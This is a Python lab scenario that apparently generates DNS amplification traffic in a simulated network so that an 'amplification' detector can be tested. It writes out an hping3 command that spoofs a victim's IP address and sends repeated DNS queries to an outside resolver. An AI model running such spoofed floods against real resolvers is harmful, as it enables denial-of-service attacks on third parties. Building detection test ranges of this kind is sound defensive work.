"""DNS amplification, seen where its questions begin."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario
from lab.scenarios.transport.amplification_dns import QUESTION


def run(net: Range) -> None:
    attacker = net.inside("attacker")
    visitor, resolver = net.outside("visitor"), net.outside("resolver")
    servers.resolver(resolver)
    net.everyday()
    question = attacker.folder / "question"
    question.write_bytes(QUESTION)
    with net.attack(
        "amplification",
        by=attacker,
        victims=[visitor],
        attacker_known=False,
        others={"reflector": [resolver], "claimed": [visitor], "sender": [attacker.mac]},
        also=["ip-spoofing"],
        frames=f"udp and dst host {resolver.ip} and dst port 53",
    ):
        words = f"hping3 -q -2 --spoof {visitor.ip} -p 53 -d {len(QUESTION)} -E {question} -i u20000 -c 150"
        net.tool(attacker, *words.split(), resolver.ip)
    net.quiet(2)


SCENARIO = Scenario(
    name="amplification-dns-sender",
    about="An inside host asks an outside resolver for long answers in the name of another outside host.",
    detectors=("amplification",),
    tools={"hping3": "hping3", "named": "bind9"},
    run=run,
)
